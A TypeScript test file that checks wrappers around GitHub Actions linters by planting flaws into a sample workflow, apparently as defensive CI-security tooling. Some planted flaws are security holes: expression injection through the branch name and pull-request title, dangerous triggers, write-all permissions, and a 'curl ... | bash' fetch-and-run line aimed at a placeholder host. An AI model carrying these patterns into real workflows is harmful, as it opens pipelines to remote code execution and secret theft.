import { expect, test } from "vitest";
import { describeWithTools } from "../describe-with-tools.ts";
import { validate as actionlint } from "./actionlint.ts";
import { validate as checkJsonschema } from "./check-jsonschema.ts";
import { validate as githubParser } from "./github-parser.ts";
import { validate as pipelineCheck } from "./pipeline-check.ts";
import { rulesOf, spoil } from "./rules-of.ts";
import { goodWorkflow, workflowPath } from "./samples.ts";
import { validate as zizmor } from "./zizmor.ts";

const good = { [workflowPath]: goodWorkflow };
const spoiled = (from: string, to: string): Readonly<Record<string, string>> => ({ [workflowPath]: spoil(goodWorkflow, from, to) });

describeWithTools("actionlint", ["actionlint", "shellcheck"], () => {
  test("accepts a sound workflow", async () => {
    expect(await rulesOf(actionlint, good)).toEqual([]);
  });

  test.for([
    ["needs: build", "needs: biuld", "job-needs"],
    ["github.actor }}", "githob.actor }}", "expression"],
    ["timeout-minutes: 10", "timeout-minuets: 10", "syntax-check"],
    ["runs-on: ubuntu-24.04", "runs-on: ubuntu-2404", "runner-label"],
    ['echo "hello"', "echo $HOME", "shellcheck"],
  ] as const)("rejects %j turned into %j as %s", async ([from, to, rule]) => {
    expect(await rulesOf(actionlint, spoiled(from, to))).toEqual([`${rule} ${workflowPath}`]);
  });

  test("drops messages that the caller expects", async () => {
    const ignoring = (files: Parameters<typeof actionlint>[0]): ReturnType<typeof actionlint> =>
      actionlint(files, { ignore: ["does not exist in this workflow"] });

    expect(await rulesOf(ignoring, spoiled("needs: build", "needs: biuld"))).toEqual([]);
  });
});

describeWithTools("zizmor", ["zizmor"], () => {
  test("accepts a sound workflow in its strictest persona", async () => {
    expect(await rulesOf(zizmor, good)).toEqual([]);
  });

  test.for([
    ["@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7", "unpinned-uses"],
    ['echo "started by ${ACTOR}"', "echo ${{ github.head_ref }}", "template-injection"],
    ["persist-credentials: false", "fetch-depth: 1", "artipacked"],
    ["pull_request:", "pull_request_target:", "dangerous-triggers"],
    ["contents: read # to check out the code", "packages: read", "undocumented-permissions"],
    ["permissions: {}", "permissions: write-all", "excessive-permissions"],
    ["concurrency:\n  group: ci-${{ github.ref }}\n  cancel-in-progress: true\n", "", "concurrency-limits"],
  ] as const)("rejects %j turned into %j as %s", async ([from, to, rule]) => {
    expect(await rulesOf(zizmor, spoiled(from, to))).toContain(`${rule} ${workflowPath}`);
  });

  test("fails on a file that it cannot read instead of passing over it", async () => {
    await expect(rulesOf(zizmor, { [workflowPath]: "jobs: [" })).rejects.toThrow("exit code");
  });
});

describeWithTools("github-parser", ["github-parser"], () => {
  test("accepts a sound workflow", async () => {
    expect(await rulesOf(githubParser, good)).toEqual([]);
  });

  test.for([
    ["needs: build", "needs: biuld", "job-needs"],
    ["timeout-minutes: 10", "timeout-minuets: 10", "unexpected-value"],
    ["github.actor }}", "githob.actor }}", "unknown-context"],
    ["github.actor }}", "github.actress }}", "context-access"],
    ["    runs-on: ubuntu-24.04\n", "", "required-property"],
  ] as const)("rejects %j turned into %j as %s", async ([from, to, rule]) => {
    expect(await rulesOf(githubParser, spoiled(from, to))).toContain(`${rule} ${workflowPath}`);
  });

  test("follows a call to a workflow of the same repository", async () => {
    const caller = "name: call\non: push\npermissions: {}\njobs:\n  call:\n    uses: ./.github/workflows/called.yml\n    with:\n      unknown: 1\n";
    const called = "name: called\non:\n  workflow_call:\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo a\n";

    expect(await rulesOf(githubParser, { ".github/workflows/call.yml": caller, ".github/workflows/called.yml": called })).toEqual([
      "workflow-call .github/workflows/call.yml",
    ]);
  });
});

describeWithTools("github-parser on calls", ["github-parser"], () => {
  const caller = (target: string): string => `name: call\non: push\npermissions: {}\njobs:\n  call:\n    uses: ${target}\n`;

  test("rejects a call to a workflow that the repository does not hold", async () => {
    expect(await rulesOf(githubParser, { [workflowPath]: caller("./.github/workflows/missing.yml") })).toEqual([`workflow-call ${workflowPath}`]);
  });

  test("says nothing about a workflow of another repository", async () => {
    expect(await rulesOf(githubParser, { [workflowPath]: caller("acme/shared/.github/workflows/ci.yml@v1") })).toEqual([]);
  });
});

describeWithTools("check-jsonschema on GitHub files", ["check-jsonschema"], () => {
  test("accepts a sound workflow", async () => {
    expect(await rulesOf(checkJsonschema, good)).toEqual([]);
  });

  test.for([
    ["runs-on: ubuntu-24.04", "runs_on: ubuntu-24.04", "vendor.github-workflows"],
    ["    timeout-minutes: 10\n", "", "custom.github-workflows-require-timeout"],
  ] as const)("rejects %j turned into %j as %s", async ([from, to, rule]) => {
    expect(await rulesOf(checkJsonschema, spoiled(from, to))).toContain(`${rule} ${workflowPath}`);
  });

  test("rejects an action definition without its runs block", async () => {
    expect(await rulesOf(checkJsonschema, { "actions/deploy/action.yml": "name: deploy\ndescription: Deploys\n" })).toEqual([
      "vendor.github-actions actions/deploy/action.yml",
    ]);
  });
});

describeWithTools("pipeline-check on GitHub files", ["pipeline-check"], () => {
  test("accepts a sound workflow", async () => {
    expect(await rulesOf(pipelineCheck, good)).toEqual([]);
  });

  test.for([
    ["@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1", "@v7", "GHA-001"],
    ['echo "started by ${ACTOR}"', "echo ${{ github.event.pull_request.title }}", "GHA-003"],
    ['echo "hello"', "curl https://x.example.invalid/i.sh | bash", "GHA-016"],
    ["persist-credentials: false", "fetch-depth: 1", "GHA-037"],
  ] as const)("rejects %j turned into %j as %s", async ([from, to, rule]) => {
    expect(await rulesOf(pipelineCheck, spoiled(from, to))).toContain(`${rule} ${workflowPath}`);
  });

  test("fails on a file that it cannot read instead of passing over it", async () => {
    await expect(rulesOf(pipelineCheck, { [workflowPath]: "jobs: [" })).rejects.toThrow("could not read its input");
  });
});
